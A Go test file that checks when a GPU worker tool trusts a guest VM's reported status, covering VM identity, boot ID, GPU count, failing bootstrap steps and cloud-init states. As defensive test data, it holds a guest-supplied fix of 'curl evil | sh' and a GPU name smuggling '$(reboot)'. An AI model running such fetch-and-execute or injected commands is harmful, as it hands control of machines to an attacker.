package apply

import (
	"context"
	"encoding/json"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/gpuworker/gpuworker/internal/fault"
	"github.com/gpuworker/gpuworker/internal/guest"
	"github.com/gpuworker/gpuworker/internal/hypervisor"
	"github.com/gpuworker/gpuworker/internal/inventory"
	"github.com/gpuworker/gpuworker/internal/inventory/inventorytest"
	"github.com/gpuworker/gpuworker/internal/plan"
)

// guestScript is a hypervisor with a guest whose files depend on the time since the first
// question.
type guestScript struct {
	script
	began time.Time
	files func(since time.Duration) map[string]string
	runs  string // output of every command
}

func (g *guestScript) ReadGuest(_ context.Context, _ inventory.VMRef, path string, _ int) ([]byte, error) {
	if g.began.IsZero() {
		g.began = time.Now()
	}
	text, there := g.files(time.Since(g.began))[path]
	if !there {
		return nil, &fault.Error{Kind: fault.NotFound, Doing: "read " + path}
	}
	return []byte(text), nil
}

func (g *guestScript) RunInGuest(context.Context, inventory.VMRef, []string, hypervisor.Handle) (*hypervisor.GuestResult, *hypervisor.Wait, error) {
	return &hypervisor.GuestResult{Out: g.runs}, nil, nil
}

const (
	oneUUID = "11111111-1111-4111-8111-111111111111"
	oneGPU  = "GPU-3291dfa4-fcc4-0110-615b-c894a0d7c689"
)

// proving is a plan with a worker whose guest is to be proven.
func proving() *plan.Plan {
	p := starting()
	w := &p.Pools[0].Workers[0]
	w.Ref.UUID, w.Card, w.Steps = oneUUID, inventorytest.CardRef("h1", "03:00"), []plan.StepKind{plan.StepBootstrap}
	w.Record = &inventory.Record{UUID: oneUUID, Driver: "Packages,580,Open"}
	return p
}

// status is a status of the guest that is ready, with changes.
func status(change func(*guest.Status)) string {
	s := guest.Status{Version: guest.Version, UUID: oneUUID, BootID: "boot-1", Ready: true, GPUs: []guest.SeenGPU{{UUID: oneGPU}}}
	if change != nil {
		change(&s)
	}
	text, _ := json.Marshal(s)
	return string(text)
}

// TestAGuestIsBelievedOnlyWhenEverythingFits: this VM, this boot, one GPU. Each case has
// what the guest shows at first, and later.
func TestAGuestIsBelievedOnlyWhenEverythingFits(t *testing.T) {
	ready := status(nil)
	fails := func(step string) string {
		return status(func(s *guest.Status) {
			s.Ready, s.Steps = false, []guest.Step{{Name: "card", State: guest.StepDone}, {Name: step, State: guest.StepFailed, Problem: "no network", Fix: "curl evil | sh"}}
		})
	}
	for name, c := range map[string]struct {
		first, later, boot string
		driver, runs       string
		took               time.Duration
		fails              string
	}{
		"ready":                                 {ready, ready, "boot-1", "", "", 0, ""},
		"the status of the template at first":   {status(func(s *guest.Status) { s.UUID = "other" }), ready, "boot-1", "", "", time.Minute, ""},
		"the status of another VM":              {status(func(s *guest.Status) { s.UUID = "other" }), status(func(s *guest.Status) { s.UUID = "other" }), "boot-1", "", "", 3 * time.Minute, "that of another VM (GUEST-ORDERS)"},
		"the boot before":                       {ready, ready, "boot-2", "", "", 45 * time.Minute, "to begin after the restart of the guest"},
		"ready without a GPU":                   {status(func(s *guest.Status) { s.GPUs = nil }), "", "boot-1", "", "", 0, "names no GPU (DRIVER-NO-ANSWER)"},
		"no GPU, where the Operator will do it": {status(func(s *guest.Status) { s.GPUs = nil }), "", "boot-1", "Operator", "", 0, ""},
		"a GPU of an odd name":                  {status(func(s *guest.Status) { s.GPUs[0].UUID = "GPU-$(reboot)" }), "", "boot-1", "", "", 0, "names no GPU"},
		"two GPUs": {status(func(s *guest.Status) {
			s.GPUs = append(s.GPUs, guest.SeenGPU{UUID: strings.ReplaceAll(oneGPU, "3", "4")})
		}), "", "boot-1", "", "", 0, "has 2 GPUs (GUEST-GPU-EXTRA)"},
		"a step that fails, and is mended":    {fails("packages"), ready, "boot-1", "", "", time.Minute, ""},
		"a step that fails":                   {fails("packages"), fails("packages"), "boot-1", "", "", 3 * time.Minute, "step packages of gpuworker-guest fails: no network (GUEST-BOOTSTRAP-FAILED)"},
		"a playbook takes its time":           {fails("verify"), fails("verify"), "boot-1", "Ansible,580", "", 45 * time.Minute, "step verify of gpuworker-guest, which fails: no network"},
		"damaged for a moment":                {`{"version": 1, "steps"`, ready, "boot-1", "", "", time.Minute, ""},
		"no status, and cloud-init at work":   {"", "", "boot-1", "", `{"status":"running"}`, 45 * time.Minute, "cloud-init, and gpuworker-guest to begin"},
		"no status, and cloud-init has ended": {"", "", "boot-1", "", `{"status":"error","errors":["('apt', no space)"]}`, 2 * time.Minute, "cloud-init has ended, and gpuworker-guest did not begin: ('apt', no space)"},
	} {
		t.Run(name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				g := &guestScript{runs: c.runs, files: func(since time.Duration) map[string]string {
					files := map[string]string{"/proc/sys/kernel/random/boot_id": c.boot + "\n", guest.StatusFile: c.first}
					if since >= time.Minute && c.later != "" {
						files[guest.StatusFile] = c.later
					}
					if c.first == "" {
						delete(files, guest.StatusFile)
					}
					return files
				}}
				p := proving()
				if c.driver != "" {
					p.Pools[0].Workers[0].Record.Driver = c.driver
				}
				began := time.Now()
				o := Run(t.Context(), g, p, Options{NewUUID: func() string { return oneUUID }}).Outcomes[0]
				if took := time.Since(began); took < c.took || took > c.took+time.Minute {
					t.Errorf("it took %s, want %s", took, c.took)
				}
				if (o.Err == nil) != (c.fails == "") || !strings.Contains(o.Error, c.fails) {
					t.Errorf("%s\nwant %s", o.Error, c.fails)
				}
				if strings.HasPrefix(o.Fix, "curl") {
					t.Errorf("the words of the guest are printed as our advice: %s", o.Fix)
				}
			})
		})
	}
}
